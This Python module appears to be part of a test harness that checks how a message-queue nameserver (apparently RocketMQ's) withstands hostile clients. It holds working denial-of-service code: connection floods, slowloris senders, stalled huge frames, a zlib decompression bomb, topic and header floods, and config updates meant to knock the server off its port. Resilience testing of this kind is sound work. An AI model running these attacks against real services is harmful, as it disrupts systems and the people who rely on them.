"""Hostile and broken clients (scenario 6), written as an attacker would: each function attacks
one nameserver address for a bounded time and returns what it saw (what the server answered,
how many of its connections the server closed and when). Raw sockets and the interop harness's
frame encoder; nothing here waits without a deadline.
"""

import functools
import selectors
import socket
import struct
import subprocess
import threading
import time
import zlib

from harness import remoting as rm

FRAME_MAX = 16 * 1024 * 1024  # Java's frameMaxLength, the largest total length a server accepts


def _host_port(addr):
    host, port = addr.rsplit(":", 1)
    return host, int(port)


def open_many(addr, n, rcvbuf=None, timeout=10.0):
    """Opens up to `n` TCP connections (non-blocking connects, all in flight at once).

    Returns (connected sockets, number that failed to connect)."""
    host, port = _host_port(addr)
    sel = selectors.DefaultSelector()
    pending = 0
    failed = 0
    socks = []
    for _ in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.setblocking(False)
        try:
            s.connect_ex((host, port))
        except OSError:
            s.close()
            failed += 1
            continue
        sel.register(s, selectors.EVENT_WRITE)
        pending += 1
    deadline = time.time() + timeout
    while pending and time.time() < deadline:
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            sel.unregister(s)
            pending -= 1
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                socks.append(s)
            else:
                s.close()
                failed += 1
    for key in list(sel.get_map().values()):
        key.fileobj.close()
        failed += 1
    sel.close()
    return socks, failed


class CloseWatch:
    """Watches sockets for the server closing them (EOF or reset); records when."""

    def __init__(self, socks):
        self.t0 = time.time()
        self.sel = selectors.DefaultSelector()
        self.open = set()
        for s in socks:
            self.sel.register(s, selectors.EVENT_READ)
            self.open.add(s)
        self.closed_at = []

    def poll(self, secs):
        end = time.time() + secs
        while self.open and time.time() < end:
            for key, _ in self.sel.select(timeout=min(0.2, max(0.0, end - time.time()))):
                s = key.fileobj
                try:
                    data = s.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    self.sel.unregister(s)
                    self.open.discard(s)
                    self.closed_at.append(time.time() - self.t0)

    def close_all(self):
        for s in list(self.open):
            try:
                self.sel.unregister(s)
            except (KeyError, ValueError):
                pass
            s.close()
        self.open.clear()
        self.sel.close()


def server_held(addr):
    """Established connections the server's side holds on its port (from the kernel's table:
    a flood faster than the accept backlog leaves client sockets the server never had)."""
    port = _host_port(addr)[1]
    out = subprocess.run(["ss", "-Htn", "state", "established", "sport", "= :%d" % port],
                         stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=30).stdout
    return len([ln for ln in out.decode().splitlines() if ln.strip()])


def _closes(w, n_open):
    closed = sorted(w.closed_at)
    return {
        "connections": n_open,
        "closed by server": len(closed),
        "first close (s)": round(closed[0], 1) if closed else None,
        "last close (s)": round(closed[-1], 1) if closed else None,
    }


def idle_flood(addr, n=5000, hold=10.0):
    """`n` connections that never send a byte, held `hold` seconds."""
    before = server_held(addr)
    socks, failed = open_many(addr, n)
    w = CloseWatch(socks)
    w.poll(hold)
    r = _closes(w, len(socks))
    r["failed to connect"] = failed
    r["held by the server (ss)"] = server_held(addr) - before
    w.close_all()
    return r


def slow_senders(addr, n=300, hold=15.0, frame=200):
    """`n` connections, each announcing a `frame`-byte frame and sending it one byte a second."""
    socks, failed = open_many(addr, n)
    for s in socks:
        try:
            s.send(struct.pack(">i", frame))
        except OSError:
            pass
    w = CloseWatch(socks)
    end = time.time() + hold
    while time.time() < end and w.open:
        w.poll(1.0)
        for s in list(w.open):
            try:
                s.send(b"x")
            except OSError:
                pass
    r = _closes(w, len(socks))
    r["failed to connect"] = failed
    w.close_all()
    return r


def huge_frames(addr, n=100, hold=10.0, send=8 * 1024 * 1024):
    """`n` connections announcing a 16 MiB frame and sending up to `send` bytes of it within
    `hold` seconds, then stalling (the frame never completes). Returns how much the server took."""
    socks, failed = open_many(addr, n)
    head = struct.pack(">i", FRAME_MAX - 4)
    zeros = b"\0" * 65536
    sent = [0] * len(socks)
    for i, s in enumerate(socks):
        try:
            sent[i] = s.send(head)
        except OSError:
            pass
    end = time.time() + hold
    while time.time() < end:
        progress = False
        for i, s in enumerate(socks):
            if sent[i] >= send:
                continue
            try:
                k = s.send(zeros[:min(len(zeros), send - sent[i])])
                sent[i] += k
                progress = progress or k > 0
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                sent[i] = send
        if not progress:
            time.sleep(0.05)
    w = CloseWatch(socks)
    w.poll(1.0)
    r = _closes(w, len(socks))
    r["failed to connect"] = failed
    r["MiB sent (all connections)"] = sum(sent) // (1 << 20)
    w.close_all()
    return r


def non_readers(addr, n=10, requests=1000, hold=10.0):
    """`n` connections with a tiny receive buffer, each pipelining `requests` topic-list requests
    (each answer carries every topic) and never reading an answer."""
    socks, failed = open_many(addr, n, rcvbuf=4096)
    frames = b"".join(rm.encode_request(rm.GET_ALL_TOPIC_LIST_FROM_NAMESERVER, opaque=i + 1)
                      for i in range(requests))
    sent = [0] * len(socks)
    end = time.time() + hold
    while time.time() < end:
        progress = False
        for i, s in enumerate(socks):
            if sent[i] >= len(frames):
                continue
            try:
                k = s.send(frames[sent[i]:sent[i] + 65536])
                sent[i] += k
                progress = progress or k > 0
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                sent[i] = len(frames)
        if not progress:
            time.sleep(0.05)
    per = len(frames) / requests
    # Reading would drain the answers: the TCP state tells whether the server closed (FIN or RST).
    closed = sum(1 for s in socks if tcp_state(s) != TCP_ESTABLISHED)
    for s in socks:
        s.close()
    return {"connections": len(socks), "failed to connect": failed,
            "requests sent": int(sum(sent) / per), "requests per connection": requests,
            "closed by server": closed}


TCP_ESTABLISHED = 1


def tcp_state(s):
    """The kernel's TCP state of a socket (tcp_info.tcpi_state: 1 established, 7 close, 8 close-wait)."""
    try:
        return s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return 0


def _register_header(name, crc, compressed):
    return {"brokerName": name, "brokerAddr": "10.255.0.1:10911", "clusterName": "HostileCluster",
            "haServerAddr": "10.255.0.1:10912", "brokerId": "0", "enableActingMaster": "false",
            "compressed": "true" if compressed else "false", "bodyCrc32": str(crc)}


def _deflate_blocks(parts):
    """zlib stream (best compression) of an iterable of byte chunks."""
    z = zlib.compressobj(9)
    out = [z.compress(p) for p in parts]
    out.append(z.flush())
    return b"".join(out)


@functools.lru_cache(maxsize=2)
def zlib_bomb_body(inflated=1 << 30):
    """A compressed RegisterBrokerBody whose first block (the DataVersion) announces and
    carries `inflated` zero bytes: about 1 MB on the wire per GiB inflated."""
    mib = b"\0" * (1 << 20)

    def parts():
        yield struct.pack(">i", inflated - 4)
        left = inflated - 4
        while left > 0:
            k = min(left, len(mib))
            yield mib[:k]
            left -= k
    return _deflate_blocks(parts())


@functools.lru_cache(maxsize=2)
def topic_flood_body(topics=2_000_000):
    """A compressed RegisterBrokerBody (remoting §9 form) with `topics` distinct topics."""
    def parts():
        dv = b'{"counter":1,"stateVersion":0,"timestamp":1}'
        yield struct.pack(">i", len(dv)) + dv
        yield struct.pack(">i", topics)
        batch = []
        for i in range(topics):
            line = b"F%07d 1 1 6 SINGLE_TAG " % i
            batch.append(struct.pack(">i", len(line)) + line)
            if len(batch) == 10000:
                yield b"".join(batch)
                batch = []
        yield b"".join(batch)
        yield struct.pack(">i", 2) + b"[]"
        yield struct.pack(">i", 0)  # no topic queue mappings
    return _deflate_blocks(parts())


def _send_and_wait(addr, frames, timeout):
    """Sends each frame on its own connection at once; returns [(code, remark, secs)] (code
    None when the connection broke or the answer did not come in time)."""
    out = [None] * len(frames)

    def one(i, frame):
        t0 = time.time()
        try:
            with rm.Conn(addr, timeout=timeout) as c:
                c.sock.sendall(frame)
                while True:
                    (total,) = struct.unpack(">i", c._read_exact(4))
                    resp = rm.decode_frame(c._read_exact(total))
                    if resp.flag and resp.flag & 1:
                        out[i] = (resp.code, (resp.remark or "")[:120], time.time() - t0)
                        return
        except Exception as e:  # noqa: BLE001 - a broken connection is an outcome
            out[i] = (None, type(e).__name__, time.time() - t0)
    threads = [threading.Thread(target=one, args=(i, f), daemon=True) for i, f in enumerate(frames)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout + 5)
    return [o or (None, "no answer", timeout) for o in out]


def _answers(results):
    codes = {}
    for code, remark, _ in results:
        k = str(code)
        codes[k] = codes.get(k, 0) + 1
    return {"answers": codes, "first remark": results[0][1] if results else "",
            "slowest answer (s)": round(max(r[2] for r in results), 1)}


def zlib_bomb(addr, n=4, inflated=1 << 30):
    body = zlib_bomb_body(inflated)
    crc = zlib.crc32(body) & 0xFFFFFFFF
    frames = [rm.encode_request(rm.REGISTER_BROKER, _register_header("broker-bomb-%d" % i, crc, True),
                                body, opaque=1) for i in range(n)]
    r = _answers(_send_and_wait(addr, frames, 60))
    r["requests"] = n
    r["compressed bytes each"] = len(body)
    r["inflated bytes each"] = inflated
    return r


def topic_flood(addr, topics=2_000_000):
    body = topic_flood_body(topics)
    crc = zlib.crc32(body) & 0xFFFFFFFF
    frame = rm.encode_request(rm.REGISTER_BROKER, _register_header("broker-flood", crc, True), body, opaque=1)
    r = _answers(_send_and_wait(addr, [frame], 120))
    r["compressed bytes"] = len(body)
    try:
        last = rm.call(addr, rm.GET_ROUTEINFO_BY_TOPIC, {"topic": "F%07d" % (topics - 1)}, timeout=10)
        r["route of the last topic"] = last.code
    except Exception as e:  # noqa: BLE001
        r["route of the last topic"] = type(e).__name__
    return r


def ext_fields_flood(addr, n=2, keys=100_000):
    """`n` requests whose JSON header carries `keys` extFields entries (~1.3 MB each)."""
    ext = {"k%d" % i: "v" for i in range(keys)}
    frames = [rm.encode_request(rm.GET_ROUTEINFO_BY_TOPIC, dict(ext, topic="HostileTopic"), opaque=1)
              for _ in range(n)]
    r = _answers(_send_and_wait(addr, frames, 30))
    r["header bytes each"] = len(frames[0])
    return r


def kv_big_value(addr, size=10 * 1024 * 1024, after=50):
    """One PUT_KV_CONFIG of a `size`-byte value, then `after` small puts (their latency)."""
    big = "x" * size
    r = {}
    t0 = time.time()
    try:
        resp = rm.call(addr, rm.PUT_KV_CONFIG, {"namespace": "HostileNS", "key": "big", "value": big}, timeout=60)
        r["big put"] = "%s%s" % (resp.code, (" " + resp.remark[:60]) if resp.remark else "")
    except Exception as e:  # noqa: BLE001
        r["big put"] = type(e).__name__
    r["big put (s)"] = round(time.time() - t0, 2)
    lat = []
    errors = 0
    with rm.Conn(addr, timeout=30) as c:
        for i in range(after):
            t = time.time()
            try:
                resp = c.request(rm.PUT_KV_CONFIG, {"namespace": "HostileNS", "key": "k%d" % i, "value": "v%d" % i})
                errors += resp.code != 0
            except Exception:  # noqa: BLE001
                errors += 1
                break
            lat.append((time.time() - t) * 1000)
    lat.sort()
    r["small puts"] = len(lat)
    r["small put errors"] = errors
    r["small put p50 (ms)"] = round(lat[len(lat) // 2], 1) if lat else None
    r["small put p99 (ms)"] = round(lat[min(len(lat) - 1, int(len(lat) * 0.99))], 1) if lat else None
    return r


def config_sabotage(addr):
    """UPDATE_NAMESRV_CONFIG with values that would break the server or take it off its port."""
    r = {}
    for key, value in (("serverChannelMaxIdleTimeSeconds", "1"), ("listenPort", "1")):
        try:
            resp = rm.call(addr, rm.UPDATE_NAMESRV_CONFIG, body="%s=%s\n" % (key, value), timeout=10)
            r[key + "=" + value] = resp.code
        except Exception as e:  # noqa: BLE001
            r[key + "=" + value] = type(e).__name__
    try:
        cfg = rm.parse_properties(rm.call(addr, rm.GET_NAMESRV_CONFIG, timeout=10).body_text())
        r["serverChannelMaxIdleTimeSeconds after"] = cfg.get("serverChannelMaxIdleTimeSeconds")
        r["listenPort after"] = cfg.get("listenPort")
    except Exception as e:  # noqa: BLE001
        r["config after"] = type(e).__name__
    return r
